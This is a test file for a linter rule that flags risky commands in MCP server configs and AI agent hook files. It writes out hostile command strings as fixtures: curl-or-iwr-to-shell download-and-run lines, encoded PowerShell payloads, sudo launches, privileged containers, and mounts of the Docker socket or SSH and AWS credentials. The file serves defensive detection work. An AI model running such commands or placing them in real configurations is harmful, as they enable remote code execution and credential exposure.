import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { fix, lint, summarize } from "../helpers.js";
import { mcpCases, type McpCase } from "../fixture-cases.js";
import type { HostId } from "../../src/hosts/index.js";
import { riskyCommand } from "../../src/rules/risky-command.js";
import {
  containerOptionValue,
  containerSocket,
  findBase64Exec,
  findDownloadExec,
  findElevation,
  findEval,
  findUnsafePerm,
  isUnconfinedSecurityOpt,
  mountSource,
  powershellParameter,
  programName,
  sensitivePath,
  volumeSource,
} from "../../src/rules/data/commands.js";

const RULES = [riskyCommand];

const { caseNames, loadCase } = mcpCases("risky-command");

const run = (c: McpCase) => lint(c.text, { rules: RULES, dialect: c.dialect, path: c.path });

const SHELL = "the host cannot show what really runs; call the program directly";
const DOWNLOAD = "what runs can change at any time and nobody reviews it; install a pinned release and call it directly";
const SUDO = (s: string) => `runs with elevated rights (${s}): an MCP server needs only your own rights; drop ${s} and grant only the access it needs`;

const BAD: Record<string, string[]> = {
  "shell-wrapper": [
    `4:18 risky-command warning server "notes" runs its command through a shell (bash -c): ${SHELL}`,
    `8:18 risky-command warning server "login-shell" runs its command through a shell (zsh -lc): ${SHELL}`,
  ],
  "curl-pipe-sh": [
    `4:18 risky-command warning server "installer" runs its command through a shell (sh -c): ${SHELL}`,
    `5:22 risky-command error server "installer" downloads code and runs it (curl | sh): ${DOWNLOAD}`,
    `8:18 risky-command warning server "python-bootstrap" runs its command through a shell (bash -c): ${SHELL}`,
    `9:22 risky-command error server "python-bootstrap" downloads code and runs it (python3 <(wget)): ${DOWNLOAD}`,
  ],
  "cmd-wrapper": [
    '4:18 risky-command info server "filesystem" starts npx through cmd /c, a common Windows pattern: keep that line a plain launch, or call npx directly if the host can start it',
    `8:18 risky-command warning server "chained" runs its command through a shell (cmd /c): ${SHELL}`,
    `12:18 risky-command warning server "kept-open" runs its command through a shell (cmd /k): ${SHELL}`,
  ],
  powershell: [
    '5:18 risky-command error server "hidden" runs a hidden base64 payload through a shell (powershell -EncodedCommand): the host cannot show what really runs; decode it, review it and call the program directly',
    `9:18 risky-command warning server "bootstrap" runs its command through a shell (pwsh -Command): ${SHELL}`,
    `10:39 risky-command error server "bootstrap" downloads code and runs it (irm | iex): ${DOWNLOAD}`,
  ],
  sudo: [
    `4:18 risky-command error server "system" ${SUDO("sudo")}`,
    `8:18 risky-command warning server "logs" runs its command through a shell (bash -c): ${SHELL}`,
    `9:22 risky-command error server "logs" ${SUDO("sudo")}`,
  ],
  "docker-privileged": [
    '7:9 risky-command error server "k8s-tools" runs its container with --privileged: the container gets full control of the host; remove the flag',
    `8:9 risky-command error server "k8s-tools" gives its container the SYS_ADMIN capability (--cap-add=SYS_ADMIN): mount, namespaces and most of root's powers: a known container escape; remove it`,
    `10:9 risky-command error server "k8s-tools" shares the host's processes with its container (--pid=host): it can see and signal every process; remove it`,
    '11:22 risky-command warning server "k8s-tools" puts its container on the host network (--network host): it reaches every local service and listens on every interface; remove it and publish only the port it needs',
    '12:27 risky-command error server "k8s-tools" turns off a container protection (--security-opt seccomp=unconfined): the container loses a barrier against escaping to the host; remove it',
    '19:50 risky-command error server "podman-all-caps" gives its container the ALL capability (--cap-add ALL): every capability, nearly the same as --privileged; remove it',
    '19:75 risky-command error server "podman-all-caps" turns off a container protection (--security-opt apparmor=unconfined): the container loses a barrier against escaping to the host; remove it',
  ],
  "docker-mounts": [
    '7:15 risky-command error server "portainer" mounts the Docker socket into its container (-v /var/run/docker.sock:/var/run/docker.sock): that is full control of the host; remove the mount',
    `8:15 risky-command error server "portainer" mounts the host's whole file system into its container (-v /:/host:ro): the server can read and change every file; mount only the folder the server needs`,
    '16:15 risky-command error server "git" mounts your SSH keys into its container (-v ${userHome}/.ssh:/root/.ssh:ro): the server can read and use them; mount only the folder the server needs',
    `17:20 risky-command error server "git" mounts the host's /etc into its container (--mount type=bind,source=/etc,target=/host-etc,readonly): the server can read system configuration and password hashes; mount only the folder the server needs`,
    '18:9 risky-command error server "git" mounts your whole home directory into its container (--volume=${env:HOME}:/home/user): the server can read every key and token you keep there; mount only the folder the server needs',
  ],
  "eval-base64": [
    `4:18 risky-command warning server "payload" runs its command through a shell (sh -c): ${SHELL}`,
    '5:22 risky-command error server "payload" decodes a base64 payload and runs it (base64 -d | sh): the code is hidden from review; decode it, review it and call the program directly',
    `8:18 risky-command warning server "env-setup" runs its command through a shell (bash -c): ${SHELL}`,
    '9:22 risky-command error server "env-setup" runs code built at start-up (eval): nobody can review what runs; call the program directly',
  ],
  "unsafe-perm": [
    `5:16 risky-command warning server "builder" uses npm's --unsafe-perm: package scripts then keep root rights; remove it and do not run npm as root`,
    `11:35 risky-command warning server "installer" uses npm's --unsafe-perm: package scripts then keep root rights; remove it and do not run npm as root`,
  ],
};

describe("risky-command fixtures", () => {
  it("lists every bad case", () => {
    expect(caseNames("bad")).toEqual(Object.keys(BAD).sort());
  });

  for (const name of Object.keys(BAD)) {
    describe(`bad/${name}`, () => {
      const c = loadCase("bad", name);
      it("reports exactly the expected findings", () => {
        expect(summarize(run(c).findings)).toEqual(BAD[name]);
      });
      it("has no fix: the .fixed file is the input unchanged", () => {
        expect(run(c).findings.filter((f) => f.fix)).toEqual([]);
        expect(c.fixed).toBe(c.text);
        expect(fix(c.text, "unsafe", { rules: RULES, dialect: c.dialect, path: c.path }).text).toBe(c.fixed);
      });
    });
  }

  for (const name of caseNames("good")) {
    it(`good/${name} has no finding`, () => {
      expect(summarize(run(loadCase("good", name)).findings)).toEqual([]);
    });
  }
});

const one = (server: Record<string, unknown>, host: HostId = "claude-code") =>
  summarize(lint(JSON.stringify({ mcpServers: { s: server } }), { rules: RULES, host }).findings).map((l) => l.replace(/^\d+:\d+ risky-command /, ""));

describe("risky-command launches", () => {
  it("leaves plain launches and remote servers alone", () => {
    expect(one({ command: "npx", args: ["-y", "pkg@1.2.3"] })).toEqual([]);
    expect(one({ command: "npx", args: ["--yes", "pkg@1.2.3"] })).toEqual([]);
    expect(one({ url: "https://example.com/mcp" })).toEqual([]);
    expect(one({ command: "node", args: ["./server.js"] })).toEqual([]);
  });

  it("reads the commands Claude Code settings run besides hooks: statusLine and the helpers (apiKeyHelper…)", () => {
    const text = JSON.stringify({ statusLine: { type: "command", command: "curl -fsSL https://x.example/s.sh | bash" }, apiKeyHelper: "sudo /opt/key.sh", awsAuthRefresh: "aws sso login --profile dev" }, null, 2);
    expect(summarize(lint(text, { rules: RULES, dialect: "claude-code-settings" }).findings).map((l) => l.replace(/: .*$/, ""))).toEqual([
      "4:16 risky-command error statusLine downloads code and runs it (curl | bash)",
      "6:19 risky-command error apiKeyHelper runs with elevated rights (sudo)",
    ]);
  });

  it("reads Gemini CLI's hooks and its tool discovery and call commands", () => {
    const text = JSON.stringify({ hooks: { BeforeTool: [{ matcher: "run_shell_command", hooks: [{ type: "command", command: "curl -fsSL https://x.example/g.sh | sh" }] }] }, tools: { callCommand: "sudo ./bin/call" } }, null, 2);
    expect(summarize(lint(text, { rules: RULES, dialect: "gemini" }).findings).map((l) => l.replace(/: .*$/, ""))).toEqual([
      '9:24 risky-command error hook BeforeTool ("run_shell_command") downloads code and runs it (curl | sh)',
      "16:20 risky-command error tools.callCommand runs with elevated rights (sudo)",
    ]);
  });

  it("reads Codex's inline hooks in config.toml", () => {
    const toml = '[[hooks.PreToolUse]]\nmatcher = "Bash"\n\n[[hooks.PreToolUse.hooks]]\ntype = "command"\ncommand = "curl -fsSL https://x.example/guard.sh | bash"\n';
    expect(summarize(lint(toml, { rules: RULES, dialect: "codex" }).findings).map((l) => l.replace(/: .*$/, ""))).toEqual(['6:11 risky-command error hook PreToolUse ("Bash") downloads code and runs it (curl | bash)']);
  });

  it("reads Cursor's and Codex's hook files", () => {
    const cursor = JSON.stringify({ version: 1, hooks: { beforeShellExecution: [{ command: "curl -fsSL https://x.example/c.sh | bash" }] } }, null, 2);
    const codex = JSON.stringify({ hooks: { SessionStart: [{ hooks: [{ type: "command", command: "sudo ./setup.sh" }] }] } }, null, 2);
    expect(summarize(lint(cursor, { rules: RULES, dialect: "cursor-hooks" }).findings).map((l) => l.replace(/: .*$/, ""))).toEqual(["6:20 risky-command error hook beforeShellExecution downloads code and runs it (curl | bash)"]);
    expect(summarize(lint(codex, { rules: RULES, dialect: "codex-hooks" }).findings).map((l) => l.replace(/: .*$/, ""))).toEqual(["8:24 risky-command error hook SessionStart runs with elevated rights (sudo)"]);
  });

  it("judges servers under a map the host ignores too: they run once the key is renamed", () => {
    const text = JSON.stringify({ servers: { s: { command: "sudo", args: ["node", "s.js"] } } });
    expect(summarize(lint(text, { rules: RULES, host: "claude-code" }).findings)).toEqual([
      `1:28 risky-command error server "s" ${SUDO("sudo")} (under "servers", which Claude Code does not read: this runs once the key is renamed to "mcpServers")`,
    ]);
    expect(summarize(lint(text, { rules: RULES, host: "vscode" }).findings)).toEqual([`1:28 risky-command error server "s" ${SUDO("sudo")}`]);
  });

  it("warns on cmd /c only when the line is more than a plain launch", () => {
    expect(one({ command: "cmd", args: ["/c", "uvx", "mcp-server-git==2025.7.1"] })).toEqual([
      'info server "s" starts uvx through cmd /c, a common Windows pattern: keep that line a plain launch, or call uvx directly if the host can start it',
    ]);
    expect(one({ command: "cmd", args: ["/C", "npx -y pkg@1.2.3 > log.txt"] })).toEqual([
      `warning server "s" runs its command through a shell (cmd /C): ${SHELL}`,
    ]);
    expect(one({ command: "cmd", args: ["/c", "myscript.bat"] })).toEqual([`warning server "s" runs its command through a shell (cmd /c): ${SHELL}`]);
  });

  it("sees container flags behind cmd /c", () => {
    expect(one({ command: "cmd", args: ["/c", "docker", "run", "--privileged", "img:1"] })).toEqual([
      'info server "s" starts docker through cmd /c, a common Windows pattern: keep that line a plain launch, or call docker directly if the host can start it',
      'error server "s" runs its container with --privileged: the container gets full control of the host; remove the flag',
    ]);
  });

  it("knows PowerShell's abbreviated parameters", () => {
    expect(one({ command: "powershell.exe", args: ["-enc", "SQBFAFgA"] })).toEqual([
      'error server "s" runs a hidden base64 payload through a shell (powershell -enc): the host cannot show what really runs; decode it, review it and call the program directly',
    ]);
    expect(one({ command: "pwsh", args: ["-c", "Start-Process node"] })).toEqual([`warning server "s" runs its command through a shell (pwsh -c): ${SHELL}`]);
    expect(one({ command: "pwsh", args: ["-File", "start.ps1", "-c", "x"] })).toEqual([]);
  });

  it("finds download-and-run in its PowerShell spellings, without a second eval finding", () => {
    expect(one({ command: "powershell", args: ["-Command", "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))"] })).toEqual([
      `warning server "s" runs its command through a shell (powershell -Command): ${SHELL}`,
      `error server "s" downloads code and runs it (iex (new-object system.net.webclient)): ${DOWNLOAD}`,
    ]);
  });

  it("finds download-and-run split over several args", () => {
    expect(one({ command: "cmd", args: ["/c", "curl", "-s", "https://x.example/i.sh", "|", "bash"] })).toEqual([
      `warning server "s" runs its command through a shell (cmd /c): ${SHELL}`,
      `error server "s" downloads code and runs it (curl | bash): ${DOWNLOAD}`,
    ]);
  });

  it("treats a command string with spaces as a shell line", () => {
    expect(one({ command: "sudo npx -y pkg@1.2.3" })).toEqual([`error server "s" ${SUDO("sudo")}`]);
    expect(one({ command: "doas", args: ["node", "s.js"] })).toEqual([`error server "s" ${SUDO("doas")}`]);
  });

  it("does not read an argument named eval or sudo as a command", () => {
    expect(one({ command: "npx", args: ["-y", "pkg@1.2.3", "--mode", "eval", "--deny", "sudo"] })).toEqual([]);
  });

  it("reads PowerShell's Invoke-Expression as eval", () => {
    expect(one({ command: "pwsh", args: ["-Command", "Invoke-Expression $env:BOOT"] })).toEqual([
      `warning server "s" runs its command through a shell (pwsh -Command): ${SHELL}`,
      'error server "s" runs code built at start-up (invoke-expression): nobody can review what runs; call the program directly',
    ]);
  });

  it("accepts --unsafe-perm=false", () => {
    expect(one({ command: "npx", args: ["--unsafe-perm=false", "-y", "pkg@1.2.3"] })).toEqual([]);
  });

  it("names each dangerous container flag, and passes harmless ones", () => {
    expect(one({ command: "docker", args: ["run", "--privileged=false", "--cap-add", "CAP_SYS_PTRACE", "--cap-drop", "ALL", "--net=host", "img:1"] })).toEqual([
      'error server "s" gives its container the SYS_PTRACE capability (--cap-add CAP_SYS_PTRACE): tracing and injecting code into processes; remove it',
      'warning server "s" puts its container on the host network (--net=host): it reaches every local service and listens on every interface; remove it and publish only the port it needs',
    ]);
  });

  it("finds sensitive mounts however the host path is spelled", () => {
    const mounts = ["/home/alice:/h", "C:\\Users\\me:/h", "~/projects:/p", "$HOME/.aws:/root/.aws", "cache:/cache", "/data"];
    expect(one({ command: "docker", args: ["run", ...mounts.flatMap((m) => ["-v", m]), "--mount", "type=bind,src=/run/docker.sock,dst=/s", "img:1"] })).toEqual([
      'error server "s" mounts your whole home directory into its container (-v /home/alice:/h): the server can read every key and token you keep there; mount only the folder the server needs',
      'error server "s" mounts your whole home directory into its container (-v C:\\Users\\me:/h): the server can read every key and token you keep there; mount only the folder the server needs',
      'error server "s" mounts your AWS credentials into its container (-v $HOME/.aws:/root/.aws): the server can read and use them; mount only the folder the server needs',
      'error server "s" mounts the Docker socket into its container (--mount type=bind,src=/run/docker.sock,dst=/s): that is full control of the host; remove the mount',
    ]);
  });

  it("does not look at flags after the image: they belong to the program", () => {
    expect(one({ command: "docker", args: ["run", "-i", "img:1", "--privileged", "-v", "/:/host"] })).toEqual([]);
  });
});

describe("risky-command data", () => {
  it("names the program a command runs", () => {
    expect(programName("C:\\Windows\\System32\\cmd.exe")).toBe("cmd");
    expect(programName("/bin/bash")).toBe("bash");
    expect(programName("C:\\Program Files\\PowerShell\\7\\pwsh.exe")).toBe("pwsh");
    expect(programName("sudo npx -y pkg")).toBe("sudo");
    expect(programName("NPX.CMD")).toBe("npx");
  });

  it("classifies PowerShell parameters by prefix", () => {
    const kinds = Object.fromEntries(["-e", "-ec", "-enc", "-EncodedCommand", "/enc", "-c", "-com", "-Command", "-cwa", "-f", "-File", "-ex", "-ep", "-co", "-NoProfile", "--c"].map((a) => [a, powershellParameter(a)]));
    expect(kinds).toEqual({
      "-e": "encoded", "-ec": "encoded", "-enc": "encoded", "-EncodedCommand": "encoded", "/enc": "encoded",
      "-c": "command", "-com": "command", "-Command": "command", "-cwa": "command",
      "-f": "file", "-File": "file",
      "-ex": undefined, "-ep": undefined, "-co": undefined, "-NoProfile": undefined, "--c": undefined,
    });
  });

  it("finds download-and-run idioms, not mere downloads", () => {
    const hits: Record<string, string> = {
      "curl -fsSL https://x | sh": "curl | sh",
      "wget -qO- https://x | sudo -E bash -s": "wget | bash",
      "curl https://x | tee /tmp/i | /bin/sh": "curl | sh",
      "curl -s https://x | python3 -": "curl | python3",
      'sh -c "$(curl -fsSL https://x)"': "sh $(curl)",
      "source <(curl -s https://x)": "source <(curl)",
      "iwr https://x | iex": "iwr | iex",
      "Invoke-RestMethod https://x | Invoke-Expression": "invoke-restmethod | invoke-expression",
    };
    for (const [text, label] of Object.entries(hits)) expect(findDownloadExec(text)?.label, text).toBe(label);
    for (const text of ["curl https://x | jq .", "curl -o out.tgz https://x; tar xf out.tgz", "curl https://x | shellcheck -", "wget https://x && bash ./install.sh"]) {
      expect(findDownloadExec(text), text).toBeUndefined();
    }
  });

  it("finds base64 payloads that are run", () => {
    expect(findBase64Exec("echo aGk= | base64 --decode | bash")?.label).toBe("base64 --decode | bash");
    expect(findBase64Exec('eval "$(echo aGk= | base64 -d)"')?.label).toBe("eval $(base64 -d)");
    expect(findBase64Exec("[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk=')) | iex")?.label).toBe("FromBase64String | iex");
    expect(findBase64Exec("echo aGk= | base64 -d > out.txt")).toBeUndefined();
  });

  it("finds eval and elevation only where a command starts", () => {
    expect(findEval('x && eval "$Y"', false)?.label).toBe("eval");
    expect(findEval("node evaluate.js --eval-mode", false)).toBeUndefined();
    expect(findEval("iex $code", true)?.label).toBe("iex");
    expect(findElevation("cd /x && sudo -E node s.js")?.label).toBe("sudo");
    expect(findElevation("if true; then doas node s.js; fi")?.label).toBe("doas");
    expect(findElevation("echo sudo")).toBeUndefined();
    expect(findElevation("node s.js --no-sudo")).toBeUndefined();
    expect(findUnsafePerm("npm i --unsafe-perm=true")?.label).toBe("--unsafe-perm");
    expect(findUnsafePerm("npm i --unsafe-perm=false")).toBeUndefined();
  });

  it("reads the host side of mounts", () => {
    expect(volumeSource("/var/run/docker.sock:/var/run/docker.sock")).toEqual({ source: "/var/run/docker.sock", path: "/var/run/docker.sock" });
    expect(volumeSource("${env:HOME}/.ssh/:/root/.ssh:ro")).toEqual({ source: "${env:HOME}/.ssh/", path: "~/.ssh" });
    expect(volumeSource("C:\\:/host")).toEqual({ source: "C:\\", path: "/" });
    expect(volumeSource("//var//run/./docker.sock:/s")?.path).toBe("/var/run/docker.sock");
    expect(volumeSource("named:/data")).toBeUndefined();
    expect(volumeSource("/data")).toBeUndefined();
    expect(mountSource("type=bind,source=/,target=/host")?.path).toBe("/");
    expect(mountSource("type=volume,source=data,target=/d")).toBeUndefined();
    expect(mountSource("type=tmpfs,target=/t")).toBeUndefined();
  });

  it("knows which host paths are sensitive", () => {
    expect(sensitivePath("/")?.what).toBe("the host's whole file system");
    expect(sensitivePath("~/.ssh/id_ed25519")?.what).toBe("your SSH keys");
    expect(sensitivePath("/etc/ssh/sshd_config")?.what).toBe("the host's SSH configuration and keys");
    for (const p of ["/etc/localtime", "/home/alice-projects", "~/projects", "/srv/data", "/etc/hosts"]) expect(sensitivePath(p), p).toBeUndefined();
    expect(containerSocket("/run/user/1000/podman/podman.sock")).toBe("Podman");
    expect(containerSocket("//./pipe/docker_engine")).toBe("Docker");
    expect(containerSocket("/var/run/docker.sock.bak")).toBeUndefined();
  });

  it("knows which security options switch a protection off", () => {
    for (const v of ["seccomp=unconfined", "seccomp:unconfined", "apparmor=unconfined", "label=disable", "systempaths=unconfined", "no-new-privileges=false"]) {
      expect(isUnconfinedSecurityOpt(v), v).toBe(true);
    }
    for (const v of ["no-new-privileges", "seccomp=/etc/profile.json", "label=type:svirt_apache_t"]) expect(isUnconfinedSecurityOpt(v), v).toBe(false);
  });

  it("drops the '=' docker accepts after a short flag", () => {
    expect(containerOptionValue({ flag: "-v", value: "=/:/h", argIndex: 2, valueIndex: 2, valueOffset: 2 })).toEqual({ value: "/:/h", offset: 3 });
    expect(containerOptionValue({ flag: "--volume", value: "/:/h", argIndex: 2, valueIndex: 2, valueOffset: 9 })).toEqual({ value: "/:/h", offset: 9 });
    expect(containerOptionValue({ flag: "--privileged", value: undefined, argIndex: 2, valueIndex: -1, valueOffset: 0 })).toBeUndefined();
  });
});

describe("risky-command docs page", () => {
  const page = readFileSync(fileURLToPath(new URL("../../docs/rules/risky-command.md", import.meta.url)), "utf8");
  const examples = page.slice(page.indexOf("## Examples"), page.indexOf("## How to fix"));
  const [bad, good] = [...examples.matchAll(/```json\n([\s\S]*?)```/g)].map((m) => m[1]!);
  const reported = [...examples.matchAll(/^> (server .*)$/gm)].map((m) => m[1]!);

  it("reports exactly the messages the page shows for its bad example", () => {
    expect(reported.length).toBeGreaterThan(0);
    expect(lint(bad!, { rules: RULES }).findings.map((f) => f.message)).toEqual(reported);
  });

  it("has no finding on its good example", () => {
    expect(summarize(lint(good!, { rules: RULES }).findings)).toEqual([]);
  });

  it("shows, in its table of checks, messages the rule really writes", () => {
    const table = page.slice(page.indexOf("## What it checks"), page.indexOf("## Why"));
    const messages = [...table.matchAll(/`(server "[^`]*)`/g)].map((m) => m[1]!.replace(/\\\|/g, "|"));
    expect(messages.length).toBeGreaterThan(3);
    const written = new Set(fixtureMessages());
    for (const m of messages) {
      const known = [...written].some((w) => (m.endsWith("…") ? w.startsWith(m.slice(0, -1).replace(/: $/, ":")) : w === m));
      expect(known, m).toBe(true);
    }
  });
});

/** Every message the rule writes for the bad fixtures. */
function fixtureMessages(): string[] {
  return caseNames("bad").flatMap((name) => run(loadCase("bad", name)).findings.map((f) => f.message));
}
